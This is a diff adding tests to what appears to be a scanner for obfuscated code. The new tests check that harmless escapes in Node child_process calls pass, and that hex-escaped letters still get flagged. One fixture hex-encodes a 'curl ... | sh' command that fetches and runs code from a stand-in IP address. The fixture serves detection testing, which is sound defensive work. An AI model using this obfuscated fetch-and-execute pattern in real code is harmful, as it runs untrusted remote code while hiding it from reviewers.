@@ -182,3 +182,25 @@ def test_a_plain_setting_appended_to_a_shell_startup_file_is_medium() -> None:
     rules = _rules(text)
     assert "SKC-FL-064" in rules
     assert "SKC-FL-006" not in rules
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        # a control character as a separator for git's log format
+        "const { execFileSync } = require('child_process');\nconst SEP = '\\u001f';\n"
+        "execFileSync('git', ['log', `--format=%H${SEP}%s`]);\n",
+        # an emoji and a tab written as escapes
+        "const cp = require('child_process');\ncp.execFileSync('git', ['tag', '-m', '\\u2728\\t']);\n",
+    ],
+)
+def test_escapes_of_characters_that_cannot_be_written_plainly_hide_nothing(code: str) -> None:
+    assert "SKC-FL-002" not in _rules(code)
+
+
+def test_escapes_spelling_printable_letters_still_hide() -> None:
+    code = (
+        "const cp = require('child_process');\n"
+        "cp.execSync('\\x63\\x75\\x72\\x6c -s https://203.0.113.9/p | \\x73\\x68');\n"
+    )
+    assert _rules(code) & {"SKC-FL-001", "SKC-FL-002"}
